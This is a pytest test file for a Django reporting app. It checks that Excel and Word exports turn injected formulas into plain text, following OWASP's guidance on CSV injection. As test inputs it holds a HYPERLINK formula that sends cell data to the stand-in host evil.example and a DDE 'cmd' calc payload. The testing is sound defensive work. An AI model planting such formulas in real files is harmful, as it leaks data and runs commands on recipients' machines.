"""Exports: text from outside never becomes a live formula (OWASP CSV injection) in any file we write.
Every writer goes through `jiedao.reports.cells.cell_text`; each download is opened as a user would."""

import io

import pytest
from docx import Document
from openpyxl import load_workbook

from jiedao.conftest import report, walk_to
from jiedao.reports.cells import cell_text

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'


def _cells(response):
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _no_formula_and_payload_kept(cells, payload=PAYLOAD):
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert "'" + payload in [cell.value for cell in cells]  # kept, readable, as text


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_lead_is_neutralised_and_plain_numbers_are_left_alone(lead):
    assert cell_text(f"{lead}cmd|' /C calc'!A0") == f"'{lead}cmd|' /C calc'!A0"
    assert [cell_text(v) for v in ("-3.2", "+5 %", "-", "桃源路 12 号", None, 7)] == [
        "-3.2", "+5 %", "-", "桃源路 12 号", "", "7"]


def test_a_portal_address_in_the_case_export_stays_text(world, clock, client):
    report(world, address=PAYLOAD)
    client.force_login(world.people.secretary)

    cells = _cells(client.get("/cases/export.xlsx", {"box": "all"}))

    _no_formula_and_payload_kept(cells)


def test_a_user_agent_in_the_audit_log_export_stays_text(world, clock, client, django_user_model):
    auditor = django_user_model.objects.create_user(username="auditor", password="pass-1234")
    from jiedao.territory.models import Duty, Role
    Duty.objects.create(user=auditor, role=Role.AUDITOR, unit=world.subdistrict)
    client.post("/login/", {"username": "+nobody", "password": "wrong"}, HTTP_USER_AGENT=PAYLOAD)
    client.force_login(auditor)

    cells = _cells(client.get("/audit/export.xlsx"))

    _no_formula_and_payload_kept(cells)


@pytest.fixture
def leader_with_a_formula_unit(world, clock, client):
    """A community an administrator named with a formula, one case in it, the leader signed in."""
    world.taoyuan.name = PAYLOAD
    world.taoyuan.save()
    report(world)
    client.force_login(world.people.leader)
    return client


def test_a_unit_name_in_the_evaluation_export_stays_text(leader_with_a_formula_unit):
    client = leader_with_a_formula_unit

    cells = _cells(client.get("/evaluation/", {"object": "community", "period": "month", "format": "xlsx"}))

    _no_formula_and_payload_kept(cells)


def test_a_decision_reason_in_the_accountability_export_stays_text(world, clock, client):
    from jiedao.accountability.models import Finding
    from jiedao.accountability.services import accountability_rules_seed
    from jiedao.accountability.tests.conftest import fail_check, refresh

    accountability_rules_seed()
    fail_check(world, walk_to(world, report(world), "fixed"))
    refresh()
    client.force_login(world.people.leader)
    client.post(f"/accountability/{Finding.objects.get().pk}/decide/", {"measure": "interview", "reason": PAYLOAD})

    cells = _cells(client.get("/accountability/", {"format": "xlsx"}))

    _no_formula_and_payload_kept(cells)


def test_a_unit_name_in_the_bulletin_word_tables_stays_text(leader_with_a_formula_unit):
    response = leader_with_a_formula_unit.get("/bulletin/", {"period": "month", "format": "docx"})

    assert response.status_code == 200
    document = Document(io.BytesIO(response.content))
    texts = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert not [text for text in texts if text.startswith(("=", "+", "@"))]
    assert any(text.startswith("'" + PAYLOAD) for text in texts), texts
